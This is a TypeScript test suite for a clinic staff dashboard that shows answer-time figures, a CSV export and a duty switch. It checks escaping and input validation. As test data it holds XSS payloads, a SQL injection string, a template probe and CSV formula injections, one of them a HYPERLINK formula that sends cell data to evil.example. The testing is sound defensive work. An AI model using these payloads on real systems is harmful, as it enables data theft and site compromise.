import { after, before, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describeEachDatabase } from '../../test/databases.ts';
import { createTestApp, type TestApp } from '../../test/test-app.ts';
import { recordConsultationEvent } from '../consultations/index.ts';
import { Browser, createMember, csrfIn, signIn, type TestMember } from './staff.fixtures.ts';
import { hoursAfter, insertCase } from './promise.fixtures.ts';

// The promise dashboard, its CSV export and the on-duty switch, on consultations with known
// times. Now is Monday 23 November 2026 (ISO week 48), 12:00 UTC; the target is 24 hours.

const NOW = Date.parse('2026-11-23T12:00:00Z');
const BAD_INPUTS = JSON.parse(readFileSync('/work/shared/security/bad-inputs.json', 'utf8')) as { field: string; value: string; expect: string; repeat?: number }[];

/** RFC 4180 rows (quoted cells, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += c;
  }
  assert.equal(cell + row.join(''), '', 'the file ends with a line break');
  return rows;
}

/** The cells of the weekly table's row for an ISO week. */
function weekRow(page: string, week: string): string[] {
  const match = new RegExp(`<th scope="row">${week} [^<]*<span[^>]*>[^<]*</span></th>([\\s\\S]*?)</tr>`).exec(page);
  assert.ok(match, `the table has a row for ${week}`);
  return [...match[1]!.matchAll(/<td>([^<]*)<\/td>/g)].map((m) => m[1]!);
}

/** The overall figure after a <dt>. */
function overall(page: string, label: string): string {
  const match = new RegExp(`<dt>${label}</dt><dd>([^<]*)</dd>`).exec(page);
  assert.ok(match, `the overall list has ${label}`);
  return match[1]!;
}

describeEachDatabase('the promise dashboard', (kind) => {
  let t: TestApp;
  let expert: Browser;
  let editor: Browser;
  let ann: TestMember;
  let ben: TestMember;
  const ids = new Map<string, string>();

  before(async () => {
    t = await createTestApp(kind, { now: () => new Date(NOW) });
    ann = await createMember(t.ctx, { role: 'expert', name: 'Ann Expert' });
    ben = await createMember(t.ctx, { role: 'expert', name: 'Ben Expert' });
    const add = async (reference: string, receivedAt: string, more: Omit<Parameters<typeof insertCase>[1], 'reference' | 'receivedAt'> = {}) => {
      ids.set(reference, await insertCase(t.ctx, { reference, receivedAt, ...more }));
    };
    const answered = (at: string, hours: number, by: TestMember) => ({ firstAnsweredAt: hoursAfter(at, hours), firstAnsweredBy: by.id });
    // Week 46: 2 h, 20 h (30 h with a 10-hour pause), 30 h (late, breached), 6 h.
    await add('KD-A1', '2026-11-09T09:00:00.000Z', answered('2026-11-09T09:00:00.000Z', 2, ann));
    await add('KD-A2', '2026-11-10T09:00:00.000Z', { ...answered('2026-11-10T09:00:00.000Z', 30, ann), pausedSeconds: 10 * 3600 });
    await add('KD-A3', '2026-11-11T09:00:00.000Z', { ...answered('2026-11-11T09:00:00.000Z', 30, ben), condition: '=1+2' });
    await add('KD-A4', '2026-11-12T09:00:00.000Z', { ...answered('2026-11-12T09:00:00.000Z', 6, ben), condition: '+SUM(A1)' });
    // Week 47: 4 h; one still unanswered and overdue (breached); one closed by the patient before it was due.
    await add('KD-B1', '2026-11-16T09:00:00.000Z', answered('2026-11-16T09:00:00.000Z', 4, ann));
    await add('KD-B2', '2026-11-17T09:00:00.000Z', { status: 'in_progress', assignedTo: ben.id });
    await add('KD-B3', '2026-11-18T09:00:00.000Z', { status: 'closed', closedAt: '2026-11-18T10:00:00.000Z' });
    // Week 48: received this morning, not due yet.
    await add('KD-C1', '2026-11-23T08:00:00.000Z');
    await t.ctx.db.transaction().execute(async (trx) => {
      await recordConsultationEvent(trx, { consultationId: ids.get('KD-A3')!, kind: 'breached', at: new Date('2026-11-12T09:00:00Z'), detail: { first: true } });
    });
    await t.ctx.db.updateTable('consultations').set({ breached_at: '2026-11-18T09:00:00.000Z' }).where('id', '=', ids.get('KD-B2')!).execute();

    expert = new Browser(t.app, '192.0.2.10');
    await signIn(expert, ann, new Date(NOW));
    editor = new Browser(t.app, '192.0.2.11');
    await signIn(editor, await createMember(t.ctx, { role: 'editor' }), new Date(NOW));
  });
  after(async () => {
    await t?.close();
  });

  it('shows the figures overall, by week and by expert, with the breaches linked', async () => {
    const response = await expert.get('/staff/dashboard?from=2026-11-09&to=2026-11-23');
    assert.equal(response.statusCode, 200);
    const page = response.body;
    assert.equal(overall(page, 'Received'), '8');
    assert.equal(overall(page, 'First answered within target'), '4 of 6 decided (66.7 %)');
    assert.equal(overall(page, 'Median time to first answer'), '6.0 h');
    assert.equal(overall(page, '90th percentile'), '30.0 h');
    assert.equal(overall(page, 'Breaches'), '2');
    assert.equal(overall(page, 'Awaiting a first answer'), '2');
    //                                     received, within, %, median, p90, breaches, awaiting
    assert.deepEqual(weekRow(page, '2026-W46'), ['4', '3 of 4', '75 %', '6.0 h', '30.0 h', '1', '0']);
    assert.deepEqual(weekRow(page, '2026-W47'), ['3', '1 of 2', '50 %', '4.0 h', '4.0 h', '1', '1']);
    assert.deepEqual(weekRow(page, '2026-W48'), ['1', '0 of 0', '—', '—', '—', '0', '1']);
    assert.match(page, /<h2 id="breaches">Breaches \(2\)<\/h2>/);
    for (const ref of ['KD-A3', 'KD-B2']) assert.ok(page.includes(`<a href="/staff/consultations/${ids.get(ref)}">${ref}</a>`), `${ref} is linked`);
    assert.ok(!page.includes(`>KD-A1</a>`), 'only breaches are listed');
    const experts = /<table class="staff-table promise-experts">([\s\S]*?)<\/table>/.exec(page)![1]!;
    const expertRows = [...experts.matchAll(/<th scope="row">([^<]*)<\/th>\s*<td>([^<]*)<\/td><td>([^<]*)<\/td><td>([^<]*)<\/td>/g)].map((m) => m.slice(1));
    assert.deepEqual(expertRows, [['Ann Expert', '3', '100 %', '4.0 h'], ['Ben Expert', '2', '50 %', '6.0 h']]);
    assert.match(page, /nearest-rank/);
    assert.match(page, /still-unanswered ones are left out/);
    assert.doesNotMatch(page, /Pat Example|pat@example\.com/, 'no patient names or addresses');
  });

  it('draws an accessible chart with no inline styles', async () => {
    const page = (await expert.get('/staff/dashboard?from=2026-11-09&to=2026-11-23')).body;
    const svg = /<svg [^>]*>[\s\S]*?<\/svg>/.exec(page)?.[0];
    assert.ok(svg, 'the page has a chart');
    assert.match(svg, /^<svg role="img" aria-labelledby="promise-chart-title promise-chart-desc"/);
    assert.match(svg, /<title id="promise-chart-title">Share of consultations first answered within 24 hours, by week received<\/title>/);
    assert.match(svg, /<desc id="promise-chart-desc">2026-W46: 75 %; 2026-W47: 50 %; 2026-W48: nothing decided<\/desc>/);
    assert.equal([...svg.matchAll(/<rect /g)].length, 2, 'one bar per week with something decided');
    assert.doesNotMatch(page, /\sstyle=/);
    assert.doesNotMatch(page, /<script(?! src=)/);
  });

  it('shows the last 12 weeks by default', async () => {
    const page = (await expert.get('/staff/dashboard')).body;
    const weeks = [...page.matchAll(/<th scope="row">(\d{4}-W\d\d) /g)].map((m) => m[1]);
    assert.equal(weeks.length, 12);
    assert.equal(weeks[0], '2026-W37');
    assert.equal(weeks[11], '2026-W48');
    assert.match(page, /id="from" name="from" type="date" value="2026-09-07"/);
    assert.equal(overall(page, 'Received'), '8');
  });

  it('exports the same consultations as CSV, formula-safe and without patient details', async () => {
    const response = await expert.get('/staff/dashboard.csv?from=2026-11-09&to=2026-11-23');
    assert.equal(response.statusCode, 200);
    assert.match(String(response.headers['content-type']), /^text\/csv/);
    assert.equal(response.headers['content-disposition'], 'attachment; filename="answer-promise-2026-11-09-to-2026-11-23.csv"');
    assert.doesNotMatch(response.body, /Pat Example|pat@example\.com/);
    const [header, ...rows] = parseCsv(response.body);
    assert.deepEqual(header, ['reference', 'received_at', 'first_answered_at', 'hours_to_first_answer', 'paused_hours', 'within_target', 'breached', 'expert', 'condition']);
    assert.deepEqual(rows.map((r) => r[0]), ['KD-A1', 'KD-A2', 'KD-A3', 'KD-A4', 'KD-B1', 'KD-B2', 'KD-B3', 'KD-C1']);
    const col = (name: string) => rows.map((r) => r[header!.indexOf(name)]!);
    const count = (name: string, value: string) => col(name).filter((v) => v === value).length;
    assert.equal(count('within_target', 'yes'), 4);
    assert.equal(count('within_target', 'no'), 2);
    assert.equal(count('within_target', 'pending'), 1);
    assert.equal(count('within_target', 'withdrawn'), 1);
    assert.equal(count('breached', 'yes'), 2);
    const hours = col('hours_to_first_answer').filter((h) => h !== '').map(Number).sort((a, b) => a - b);
    assert.deepEqual(hours, [2, 4, 6, 20, 30]);
    assert.equal(hours[Math.ceil(0.5 * hours.length) - 1], 6, 'the same median as the page');
    assert.equal(col('paused_hours')[1], '10.00');
    assert.equal(col('expert')[0], 'Ann Expert');
    assert.equal(col('condition')[0], 'Chronic kidney disease, stage 3 (not on dialysis)');
    assert.equal(col('condition')[2], "'=1+2");
    assert.equal(col('condition')[3], "'+SUM(A1)");
    assert.ok(response.body.includes(`"'=1+2"`), 'the formula cell is quoted with its leading quote');
    const audit = await t.ctx.db.selectFrom('audit_log').select(['actor_id', 'outcome']).where('action', '=', 'dashboard.exported').execute();
    assert.deepEqual(audit.map((a) => ({ ...a })), [{ actor_id: ann.id, outcome: 'ok' }]);
  });

  it('keeps expert names as text on the page and neutralised in the CSV', async () => {
    const names = BAD_INPUTS.filter((b) => b.field === 'name' && b.expect === 'stored-escaped' && b.repeat === undefined).map((b) => b.value);
    assert.ok(names.length >= 8);
    for (const [i, name] of names.entries()) {
      const member = await createMember(t.ctx, { role: 'expert', name, email: `named${i}@clinic.example` });
      await insertCase(t.ctx, { reference: `KD-N${i}`, receivedAt: `2025-06-0${2 + (i % 5)}T09:00:00.000Z`, firstAnsweredAt: `2025-06-0${2 + (i % 5)}T10:00:00.000Z`, firstAnsweredBy: member.id });
    }
    const page = (await expert.get('/staff/dashboard?from=2025-06-01&to=2025-06-30')).body;
    assert.equal(overall(page, 'Received'), String(names.length));
    assert.ok(!page.includes('<script>alert(1)</script>') && page.includes('&lt;script&gt;alert(1)&lt;/script&gt;'));
    assert.ok(!page.includes('"><img src=x') && page.includes('&quot;&gt;&lt;img src=x onerror=alert(document.domain)&gt;'));
    assert.ok(page.includes('{{7*7}}'));
    assert.ok(page.includes('Zoë Ñúñez-O&#39;Brien'));
    const csv = (await expert.get('/staff/dashboard.csv?from=2025-06-01&to=2025-06-30')).body;
    const experts = parseCsv(csv).slice(1).map((r) => r[7]!);
    for (const name of names) assert.ok(experts.includes(/^[=+\-@]/.test(name) ? `'${name}` : name), `the CSV has ${name}`);
    assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")"`));
  });

  it('answers garbage in the date filters with 4xx and a message, never 500', async () => {
    const garbage = [
      ...BAD_INPUTS.filter((b) => b.field === 'search' || b.field === 'slug').map((b) => b.value.repeat(b.repeat ?? 1)),
      '2026-02-30', '2026-13-01', '30/11/2026', '2026-1-1', '0000-01-01', '9999-12-31', ' ', 'null', '2026-11-01T00:00:00Z',
    ];
    for (const value of garbage) {
      for (const field of ['from', 'to']) {
        for (const path of ['/staff/dashboard', '/staff/dashboard.csv']) {
          const response = await expert.get(`${path}?${new URLSearchParams({ [field]: value })}`);
          if (value.trim() === '') { assert.equal(response.statusCode, 200); continue; }
          assert.ok(response.statusCode >= 400 && response.statusCode < 500, `${path} ${field}=${value.slice(0, 40)}: ${response.statusCode}`);
          if (value.length <= 40) assert.equal(response.statusCode, 422, `${path} ${field}=${value}: a message, not a bare 400`);
          if (path === '/staff/dashboard' && response.statusCode === 422) {
            assert.match(response.body, new RegExp(`<p id="${field}-error" class="field-error"><span class="visually-hidden">Error:</span> Enter a real date`));
            assert.doesNotMatch(response.body, /<script>alert/);
          }
        }
      }
    }
    const reversed = await expert.get('/staff/dashboard?from=2026-11-20&to=2026-11-01');
    assert.equal(reversed.statusCode, 422);
    assert.match(reversed.body, /The end date must be on or after the start date/);
    assert.match(reversed.body, /value="2026-11-20"/, 'what was asked stays in the form');
    assert.equal((await expert.get('/staff/dashboard?from=2000-01-01&to=2026-11-01')).statusCode, 422);
    assert.equal((await expert.get('/staff/dashboard?from=2026-01-01&from=2026-02-01')).statusCode, 400);
  });

  it('links the dashboard and the duty switch from the console home for experts, not editors', async () => {
    const home = (await expert.get('/staff')).body;
    assert.match(home, /<a href="\/staff\/dashboard">Answer promise<\/a>/);
    assert.match(home, /You are <strong>on duty<\/strong>/);
    const editorHome = (await editor.get('/staff')).body;
    assert.doesNotMatch(editorHome, /\/staff\/dashboard|action="\/staff\/duty"/);
    assert.equal((await editor.get('/staff/dashboard')).statusCode, 403);
  });

  it('switches duty off and on, audited once per change', async () => {
    const duty = async () => Number((await t.ctx.db.selectFrom('staff').select('on_duty').where('id', '=', ann.id).executeTakeFirstOrThrow()).on_duty);
    const audits = async () => (await t.ctx.db.selectFrom('audit_log').select(['actor_id', 'subject_id']).where('action', '=', 'staff.duty_changed').execute()).length;
    const csrf = csrfIn((await expert.get('/staff')).body);
    for (const bad of ['maybe', '', '<script>alert(1)</script>', 'on\u0000', 'ON', "' OR 1=1--"]) {
      const response = await expert.post('/staff/duty', { duty: bad, csrf });
      assert.equal(response.statusCode, 400, JSON.stringify(bad));
    }
    assert.equal(await duty(), 1);
    assert.equal((await expert.post('/staff/duty', { duty: 'off' })).statusCode, 403, 'no CSRF token');
    const off = await expert.post('/staff/duty', { duty: 'off', csrf });
    assert.equal(off.statusCode, 303);
    assert.equal(off.headers.location, '/staff');
    assert.equal(await duty(), 0);
    assert.match((await expert.get('/staff')).body, /You are <strong>off duty<\/strong>[\s\S]*Go on duty/);
    await expert.post('/staff/duty', { duty: 'off', csrf });
    assert.equal(await audits(), 1, 'no change, no audit row');
    await expert.post('/staff/duty', { duty: 'on', csrf });
    assert.equal(await duty(), 1);
    assert.equal(await audits(), 2);
    const rows = await t.ctx.db.selectFrom('audit_log').select(['actor_id', 'subject_id']).where('action', '=', 'staff.duty_changed').execute();
    assert.ok(rows.every((r) => r.actor_id === ann.id && r.subject_id === ann.id));
    assert.equal(Number((await t.ctx.db.selectFrom('staff').select('on_duty').where('id', '=', ben.id).executeTakeFirstOrThrow()).on_duty), 1, 'only their own');
  });
});
